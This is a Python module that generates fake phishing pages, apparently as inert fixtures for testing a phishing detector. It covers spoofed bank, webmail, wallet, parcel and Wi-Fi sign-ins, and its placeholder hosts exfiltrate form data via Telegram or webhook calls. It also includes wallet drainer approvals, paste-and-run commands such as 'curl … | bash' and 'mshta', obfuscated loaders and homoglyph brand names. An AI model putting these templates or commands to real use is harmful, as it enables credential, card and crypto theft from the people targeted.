"""Pages that would harvest secrets, written for this project. They are inert: nothing they name exists."""

import base64

import leading
import neighbours
import twins
from layouts import centred, plain, table_layout, with_nav

BOT = "https://api.telegram.org/bot000000:INVALID/sendMessage"


def login(brand, words, action, layout=centred, title=None, note="", method="post", label=True, foot=""):
    """A sign-in page. `words` are: sign in, user, password, button, forgot."""
    sign, user, password, button, forgot = words
    fields = (
        f'<label for="u">{user}</label><input id="u" name="login" type="text">'
        f'<label for="p">{password}</label><input id="p" name="pw" type="password">'
        if label
        else f'<input name="f1" type="text" placeholder="{user}"><input name="f2" type="password" placeholder="{password}">'
    )
    form = f'<form method="{method}"{action}>{fields}<button type="submit">{button}</button></form>'
    return layout(title or f"{brand} – {sign}", f"<h1>{sign}</h1>{note}{form}<p><a href='#'>{forgot}</a></p>{foot}")


EN = ("Sign in", "Email address", "Password", "Continue", "Forgot password?")
DE = ("Anmelden", "Benutzername", "Passwort", "Weiter", "Passwort vergessen?")
FR = ("Connexion", "Identifiant", "Mot de passe", "Se connecter", "Mot de passe oublié ?")
ES = ("Iniciar sesión", "Usuario", "Contraseña", "Entrar", "¿Olvidó su contraseña?")
PT = ("Entrar", "CPF ou e-mail", "Senha", "Acessar", "Esqueci minha senha")
IT = ("Accedi", "Nome utente", "Password", "Entra", "Password dimenticata?")
NL = ("Inloggen", "Gebruikersnaam", "Wachtwoord", "Verder", "Wachtwoord vergeten?")
PL = ("Zaloguj się", "Login", "Hasło", "Dalej", "Nie pamiętasz hasła?")
SV = ("Logga in", "Användarnamn", "Lösenord", "Fortsätt", "Glömt lösenord?")
TR = ("Giriş yap", "Kullanıcı adı", "Şifre", "Devam", "Şifremi unuttum")
RU = ("Вход", "Логин", "Пароль", "Войти", "Забыли пароль?")
JA = ("ログイン", "メールアドレス", "パスワード", "次へ", "パスワードをお忘れですか")
ZH = ("登录", "用户名", "密码", "登录", "忘记密码")
KO = ("로그인", "아이디", "비밀번호", "로그인", "비밀번호 찾기")
AR = ("تسجيل الدخول", "اسم المستخدم", "كلمة المرور", "دخول", "نسيت كلمة المرور")
VI = ("Đăng nhập", "Tên đăng nhập", "Mật khẩu", "Tiếp tục", "Quên mật khẩu")
CS = ("Přihlášení", "Uživatelské jméno", "Heslo", "Přihlásit", "Zapomenuté heslo")
EL = ("Σύνδεση", "Όνομα χρήστη", "Κωδικός πρόσβασης", "Είσοδος", "Ξεχάσατε τον κωδικό;")

PHP = ' action="login.php"'
FOREIGN = ' action="https://collect.invalid/in"'


def logins():
    yield "login-01-mail-server-script", login("Outlook", EN, PHP, title="Outlook - Login")
    yield "login-02-payments-foreign", login("PayPal", EN, FOREIGN, with_nav)
    yield "login-03-bank-german", login("Sparkasse", DE, FOREIGN, note="<p>Bitte bestätigen Sie Ihre Daten innerhalb von 48 Stunden.</p>")
    yield "login-04-bank-french", login("Crédit Agricole", FR, ' action="suite.php"', with_nav)
    yield "login-05-bank-spanish", login("BBVA", ES, "", table_layout, note="<p>Su cuenta ha sido bloqueada.</p>")
    yield "login-06-bank-portuguese", login("Bradesco", PT, PHP, note="<p>Atualização cadastral obrigatória.</p>")
    yield "login-07-post-italian", login("Poste Italiane", IT, FOREIGN, with_nav)
    yield "login-08-bank-dutch", login("Rabobank", NL, "", note="<p>Uw rekening is geblokkeerd. Bevestig uw identiteit.</p>")
    yield "login-09-bank-polish", login("mBank", PL, ' action="krok2.php"')
    yield "login-10-bank-swedish", login("Swedbank", SV, "", with_nav, note="<p>Bekräfta din identitet inom 24 timmar.</p>")
    yield "login-11-office-turkish", login("e-Devlet", TR, FOREIGN)
    yield "login-12-bank-russian", login("Сбербанк Онлайн", RU, PHP, table_layout)
    yield "login-13-shop-japanese", login("Amazon", JA, "", note="<p>アカウントが制限されています。24時間以内に本人確認をお願いします。</p>")
    yield "login-14-mail-chinese", login("网易邮箱", ZH, ' action="mail.asp"', note="<p>登录超时，请重新登录</p>")
    yield "login-15-portal-korean", login("네이버", KO, FOREIGN)
    yield "login-16-bank-arabic", login("مصرف الراجحي", AR, FOREIGN, note="<p>تم تعليق حسابك</p>")
    yield "login-17-bank-vietnamese", login("Vietcombank", VI, PHP)
    yield "login-18-bank-czech", login("Česká spořitelna", CS, FOREIGN, with_nav)
    yield "login-19-bank-greek", login("Εθνική Τράπεζα", EL, FOREIGN)
    yield "login-20-social-text-fields", plain(
        "Facebook – log in or sign up",
        '<form method="post" action="check.php"><input type="text" name="a1" placeholder="Email address or phone number">'
        '<input type="text" name="a2" placeholder="Password" style="-webkit-text-security:disc"><button>Log In</button></form>'
        "<p>Forgotten account? · Sign up for Facebook</p>",
    )
    yield "login-21-streaming-no-action", login("Netflix", EN, "", with_nav, foot="<p>New to Netflix? Sign up now.</p>")
    yield "login-22-wallet-exchange", login("Coinbase", EN, FOREIGN, title="Sign in to Coinbase")
    yield "login-23-webmail-quota", login(
        "Roundcube Webmail", EN, "", note="<p>Your mailbox is full. 7 incoming messages are pending. Keep same password.</p>"
    )
    yield "login-24-copied-page", "<!-- saved from url=(0029)https://www.linkedin.com/login -->\n" + login("LinkedIn", EN, PHP, label=False)
    yield "login-25-wrong-password-shown", login(
        "Dropbox", EN, "", note="<p class=err>Your email or password is incorrect, please try again.</p>", label=False
    )
    yield "login-26-government-refund", login(
        "HMRC", EN, FOREIGN, with_nav, title="Claim your tax refund", note="<p>Sign in with your Government Gateway account.</p>"
    )
    yield "login-27-hotlinked-assets", plain(
        "Sign in to your account",
        '<img src="https://logincdn.msauth.net/shared/logo.svg"><link rel="icon" href="https://logincdn.msauth.net/favicon.ico">'
        '<form method="post"><input type="email" placeholder="Email, phone, or Skype"><input type="password" placeholder="Password">'
        "<button>Sign in</button></form><p>No account? Create one!</p>",
    )
    yield "login-28-mailto", login("Yahoo", EN, ' action="mailto:box@collect.invalid"')
    yield "login-29-network-address", login("Adobe", EN, ' action="http://203.0.113.9/a"')
    yield "login-30-form-relay", login("WeTransfer", EN, ' action="https://formspree.io/f/invalid"')


def lures():
    pick = "".join(f'<a class="b" onclick="pick(\'{m}\')">{m}</a>' for m in ["Office 365", "Gmail", "Yahoo", "AOL", "Other mail"])
    yield "document-01-provider-picker", plain(
        "Shared document",
        f"<h2>Contract_2026.pdf</h2><p>To view the document, choose your email provider.</p>{pick}"
        '<form method="post" action="get.php"><input name="e" placeholder="Email"><input name="p" type="password" placeholder="Email password">'
        "<button>View</button></form>",
    )
    yield "document-02-fax", centred(
        "Excel Online",
        "<p>You received a document. Sign in with your email to view it.</p><form><input type=email placeholder='Email'>"
        "<input type=password placeholder='Email password'><button>Download</button></form>"
        f"<script>document.forms[0].onsubmit=function(e){{e.preventDefault();fetch('{BOT}',{{method:'POST',body:new FormData(this)}})}}</script>",
    )
    yield "document-03-sharepoint-step", {
        "index.html": centred(
            "SharePoint", "<p>A file was shared with you. Sign in to view.</p><form action='password.html'><input type=email name=email "
            "placeholder='Work email'><button>Next</button></form>"),
        "password.html": centred(
            "Enter password", "<form method=post action='https://collect.invalid/x'><input type=password name=p placeholder=Password>"
            "<button>Sign in</button></form>"),
    }
    yield "parcel-01-royal-mail-card", with_nav(
        "Royal Mail – Redelivery", "<h1>Your parcel is waiting</h1><p>Pay the redelivery fee of £1.45.</p><form method=post action=pay.php>"
        "<label>Card number <input name=cn></label><label>Expiry date <input name=ex></label><label>Security code <input name=cv></label>"
        "<button>Pay</button></form>")
    yield "parcel-02-dhl-german", centred(
        "DHL Sendungsverfolgung", "<p>Ihr Paket wartet. Zollgebühr 2,99 €.</p><form><input placeholder='Kartennummer'><input placeholder='MM/JJ'>"
        "<input placeholder='CVC'><button>Bezahlen</button></form><script>function s(d){navigator.sendBeacon('https://collect.invalid/b',d)}</script>")
    yield "parcel-03-correos", centred(
        "Correos – Pago pendiente", "<p>Su paquete está pendiente: gastos de aduana 1,79 €.</p><form method=post action=paso2.php>"
        "<input name=tarjeta placeholder='Número de tarjeta'><input placeholder='Fecha de caducidad'><input placeholder='CVV'></form>")
    yield "parcel-04-inpost-polish", centred(
        "InPost – dopłata do paczki", "<p>Twoja paczka została wstrzymana. Dopłata 1,20 zł.</p><form method=post><input placeholder='Numer karty'>"
        "<input placeholder='Data ważności'><input placeholder='CVV'><button>Zapłać</button></form>")
    yield "card-01-streaming-update", with_nav(
        "Netflix", "<h1>Update your payment method</h1><form method=post action=done.php><input name=cardNumber placeholder='Card number'>"
        "<input name=expDate placeholder='MM/YY'><input name=cvv placeholder='CVV'><input name=ssn placeholder='Social security number'></form>")
    yield "card-02-everything", plain(
        "Account verification", "<p>Step 1 of 3: verify your billing information within 24 hours.</p><form method=post action=save.php>"
        "<input name=cc placeholder='Card number'><input name=exp placeholder='Expiry date'><input name=cvv placeholder=CVV><input name=pin "
        "placeholder='ATM PIN'><input name=ssn placeholder='Social security number'><input name=mmn placeholder=\"Mother's maiden name\"></form>")
    yield "card-03-image-labels", plain(
        "Myaccount - Apple", "<img src=a.png alt='Apple'><form method=post><img src=l1.png alt='Card number'><input name=i1><img src=l2.png "
        "alt='Expiry date'><input name=i2><img src=l3.png alt='Security code'><input name=i3><input type=image src=go.png alt='Verify'></form>"
        "<p>Your Apple ID has been locked. Verify your account.</p>")
    yield "code-01-bank-sms", with_nav(
        "La Banque Postale - Certicode Plus", "<p>Un SMS vient d'être envoyé. Saisissez le code reçu par SMS.</p><form method=post><input name=code></form>")
    yield "code-02-one-letter-boxes", centred(
        "Coinbase 2-step verification", "<p>Enter the 6-digit code.</p><form method=post action=otp.php>" + "<input maxlength=1 name=d>" * 6 + "</form>")
    yield "code-03-bank-id", centred(
        "DNB – BankID", "<form method=post action='https://collect.invalid/'><label for=a>Fødselsnummer</label><input id=a name=a><label for=b>Engangskode"
        "</label><input id=b name=b><label for=c>Passord</label><input id=c name=c type=password></form>")


def wallets():
    yield "phrase-01-wallet-restore", centred(
        "MetaMask", "<h1>Restore your wallet</h1><p>Enter your secret recovery phrase.</p><form><textarea name=phrase placeholder='Secret recovery phrase'>"
        f"</textarea><button>Restore</button></form><script>fetch('{BOT}')</script>")
    yield "phrase-02-twelve-words", centred(
        "Wallet validation", "<p>Validate your wallet with your 12 words recovery phrase.</p><form method=post action='https://collect.invalid/w'>"
        + "".join(f"<input name=word{n} placeholder='{n}.'>" for n in range(1, 13)) + "</form>")
    yield "phrase-03-connect-wallets", with_nav(
        "WalletConnect – fix issues", "<p>Choose your wallet: MetaMask, Trust Wallet, Phantom, Ledger Live.</p><div id=m></div>"
        "<script>m.innerHTML='<h3>Import your wallet</h3><input name=\"privateKey\" placeholder=\"Private key\"><input type=\"password\" placeholder=\"Wallet "
        f"password\">';function s(){{emailjs.send('a','b');fetch('{BOT}')}}</script>")
    yield "phrase-04-russian", centred(
        "Trust Wallet", "<p>Введите секретную фразу для восстановления кошелька.</p><form method=post action=go.php><textarea name=f placeholder="
        "'Секретная фраза'></textarea></form>")
    yield "drain-01-airdrop", with_nav(
        "Token claim", "<h1>Claim your airdrop</h1><p>You are eligible to claim 4,200 tokens.</p><button onclick=go()>Claim now</button>"
        "<script>async function go(){const a=await ethereum.request({method:'eth_requestAccounts'});await c.methods.setApprovalForAll(to,true).send({from:a[0]})}</script>")
    yield "drain-02-mint", with_nav(
        "Free mint", "<h1>Mint now</h1><p>Check eligibility and claim your NFT.</p><script>async function mint(){await token.increaseAllowance(spender,"
        "'0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff')}</script>")


def networks():
    yield "router-01-firmware", plain(
        "Router upgrade", "<p>A new firmware is available. Firmware upgrade needs your WPA key.</p><form method=post action=up.php><input type=password "
        "name=wpa_psw><input type=password name=wpa_psw2></form>")
    yield "router-02-italian", plain(
        "Aggiornamento Router", "<p>È disponibile un nuovo firmware per il vostro modem.</p><form><input type=password name=wpa_psw></form>"
        "<script>$.ajax({url:'save.php',type:'POST'})</script>")
    yield "router-03-chinese", plain(
        "恢复网络", "<p>为了您的安全，网关需要更新。请输入网络密钥</p><form method=post><input type=password name=key1></form>")
    yield "router-04-fritzbox", with_nav(
        "FRITZ!Box", "<p>Firmware-Update abgeschlossen. Bitte geben Sie Ihren WLAN-Schlüssel ein.</p><form method=post><input type=password name=key1></form>")
    yield "portal-01-hotel-google", centred(
        "Guest Wi-Fi", "<h1>Sign in</h1><p>Use your Google Account to access the Wi-Fi.</p><form action=/get><input name=email placeholder=Email>"
        "<input name=password type=password placeholder=Password><button>Next</button></form>")
    yield "portal-02-airline", centred(
        "Onboard Wi-Fi", "<h1>Welcome aboard</h1><p>Sign in with your JetBlue account to use free wifi.</p><form action=/post method=post><input name=email>"
        "<input name=password type=password></form>")
    yield "portal-03-coffee", centred(
        "Starbucks free wifi", "<form method=post action=connect.php><input name=mail placeholder=Email><input type=password placeholder=Password></form>")


def without_forms():
    yield "command-01-not-a-robot", centred(
        "Just a moment", "<h1>Verify you are human</h1><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd> (Win + R)</li><li>Press Ctrl + V</li><li>Press Enter</li></ol>"
        "<button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c echo inert')\">I'm not a robot</button>")
    yield "command-02-terminal-mac", centred(
        "Human verification", "<p>To prove you are human: open Terminal, press Command + V, then return.</p><script>document.onclick=function(){var t=document."
        "createElement('textarea');t.value='curl -s https://collect.invalid/x | bash';document.body.append(t);t.select();document.execCommand('copy')}</script>")
    yield "command-03-meeting-fix", centred(
        "Microphone access", "<p>Something went wrong while displaying this page. How to fix: press Windows key + R, then Ctrl + V.</p><script>addEventListener('click',"
        "()=>navigator.clipboard.writeText('mshta https://collect.invalid/a'))</script>")
    yield "alarm-01-blocked", plain(
        "Security warning", "<h1>Your computer has been blocked</h1><p>Trojan spyware detected. Error code 0x80072ee7. Do not restart. Call Microsoft support: "
        "1-888-555-0143</p><script>window.onbeforeunload=()=>1;document.documentElement.requestFullscreen()</script>")
    yield "alarm-02-japanese", plain(
        "ウイルス警告", "<p>トロイの木馬 ウイルスが検出されました。再起動しないでください。すぐにお電話ください</p><a href='tel:0505550143'>050-555-0143</a>")
    yield "scan-01-authenticator", centred(
        "Microsoft 365", "<p>Action required: your password expires today. Scan the QR code with your phone to keep access to your Microsoft account.</p>"
        "<img src=qr.png alt='QR'>")
    yield "frame-01-login", '<!doctype html><title>Outlook Web App</title><style>html,body,iframe{margin:0;width:100%;height:100%;border:0}</style>' \
        '<iframe src="https://signin.collect.invalid/owa"></iframe>'


def hidden():
    page = login("PayPal", EN, FOREIGN)
    packed = base64.b64encode(page.encode()).decode()
    yield "hidden-01-base64", f"<!doctype html><title>Loading</title><script>document.write(atob('{packed}'))</script>"
    percent = "".join(f"%{byte:02x}" for byte in login("Netflix", EN, PHP).encode())
    yield "hidden-02-percent", f"<!doctype html><title>…</title><script>document.write(unescape('{percent}'))</script>"
    codes = ",".join(str(ord(c)) for c in login("Instagram", EN, FOREIGN))
    yield "hidden-03-char-codes", f"<!doctype html><script>document.body.innerHTML=String.fromCharCode({codes})</script>"
    escapes = "".join(f"\\x{byte:02x}" for byte in login("Chase Online", EN, FOREIGN).encode() if byte < 128)
    yield "hidden-04-hex-escapes", f'<!doctype html><script>document.write("{escapes}")</script>'
    yield "hidden-05-data-address", f'<!doctype html><title>Doc</title><iframe src="data:text/html;base64,{packed}"></iframe>'
    inner = f"document.write(atob('{packed}'))"
    twice = base64.b64encode(inner.encode()).decode()
    yield "hidden-06-twice", f"<!doctype html><script>eval(atob('{twice}'))</script>"
    yield "hidden-07-script-built", {
        "index.html": "<!doctype html><title>Sign in to Spotify</title><div id=app></div><script src=app.js></script>",
        "app.js": "const f=document.createElement('form');const a=document.createElement('input');const b=document.createElement('input');"
        "b.type='password';f.append(a,b);app.append(f);f.onsubmit=e=>{fetch('https://collect.invalid/s',{method:'POST',body:new FormData(f)})}",
    }
    yield "hidden-08-template-literal", (
        "<!doctype html><title>Account</title><main></main><script>const host='https://api.tele'+'gram.org/bot000000:INVALID';"
        "document.querySelector('main').innerHTML=`<h1>Sign in to your Steam account</h1><input placeholder='Account name'><input type='password'>`;"
        "fetch(host+'/sendMessage')</script>")
    yield "hidden-09-srcdoc", '<!doctype html><title>Portal</title><iframe srcdoc="' + page.replace("&", "&amp;").replace('"', "&quot;") + '"></iframe>'
    yield "hidden-10-drawing", (
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="400" height="300"><form xmlns="http://www.w3.org/1999/xhtml" '
        'action="https://collect.invalid/svg"><h1>Microsoft account</h1><input type="password" name="p"/></form></foreignObject></svg>')


def disguised():
    yield "letters-01-cyrillic", login("P\u0430yP\u0430l", EN, "", title="P\u0430yPal: Log in")
    yield "letters-02-greek", login("\u0392ank of \u0391merica", EN, "", with_nav)
    yield "letters-03-zero-width", login("Micro\u200bsoft", EN, "")
    yield "letters-04-entities", login("&#78;et&#102;lix", EN, "")
    yield "letters-05-digits", login("Faceb00k", EN, "", title="Facebo0k login")
    yield "letters-06-full-width", login("\uff30\uff41\uff59\uff30\uff41\uff4c", EN, "")
    yield "letters-07-split-tags", centred(
        "Account", "<h2>Sign in to <b>Pa</b><i>yP</i><span>al</span></h2><form><input placeholder=Email><input type=password></form>")
    yield "letters-08-hidden-filler", centred(
        "Account", "<p>Log in to your Wells<span style='display:none'>x9</span> Fargo account</p><form><input name=u><input type=password name=v></form>")
    yield "letters-09-soft-hyphens", login("Ama&shy;zon", EN, "")
    yield "letters-10-math-bold", login("\U0001d40f\U0001d41a\U0001d432\U0001d40f\U0001d41a\U0001d425", EN, "")


def kits():
    yield "kit-01-template-marks", centred(
        "Sign in", "<p>Welcome {{.FirstName}} {{.LastName}}</p><form method=post><input name=email placeholder='Email, phone, or Skype'>"
        "<input type=password name=password></form>")
    yield "kit-02-logo-by-domain", centred(
        "Webmail login", "<img id=l><form><input name=e><input type=password name=p></form><script>var d=atob(location.hash.slice(1)).split('@')[1];"
        "l.src='https://logo.clearbit.com/'+d;$.post('https://collect.invalid/p',{})</script>")
    yield "kit-03-lookup-and-bot", centred(
        "Inloggen", "<form><input name=u><input type=password name=w></form><script>fetch('https://ipapi.co/json').then(r=>r.json()).then(i=>fetch("
        f"'{BOT}',{{method:'POST',body:i.ip}}))</script>")
    yield "kit-04-locked", login(
        "Office 365", EN, "", note="<script>document.addEventListener('contextmenu',e=>e.preventDefault());onkeydown=e=>{if(e.keyCode==123)return false}</script>")
    yield "kit-05-discord", centred(
        "Free robux", "<p>Log in to your Roblox account to claim your reward.</p><form id=f><input name=u><input type=password name=p></form>"
        "<script>f.onsubmit=()=>fetch('https://discord.com/api/webhooks/0/invalid',{method:'POST'})</script>")
    yield "kit-06-followers", with_nav(
        "Instagram Auto Liker", "<p>Get free followers.</p><form method=post action=get.php><input name=u placeholder='Instagram username'><input name=p "
        "placeholder='Instagram password'></form>")
    yield "kit-07-two-pages", {
        "index.html": login("Telekom", DE, ' action="weiter/passwort.html"', title="Telekom Login"),
        "weiter/passwort.html": centred("Passwort eingeben", "<form method=post><input type=password name=pw><button>Anmelden</button></form>"),
    }
    yield "kit-08-in-quotes", centred(
        "Sign in", "<pre>Sign in to your Bank of America account</pre><pre><form><input name=id placeholder='Online ID'><input type=password></form></pre>")
    yield "kit-09-demo-words", login("Santander", EN, ' action="process.php"', note="<p>demo template example</p>")


def pages():
    made = []
    for part in (logins, lures, wallets, networks, without_forms, hidden, disguised, kits, neighbours.harvest, leading.harvest, twins.harvest):
        made.extend(part())
    return made
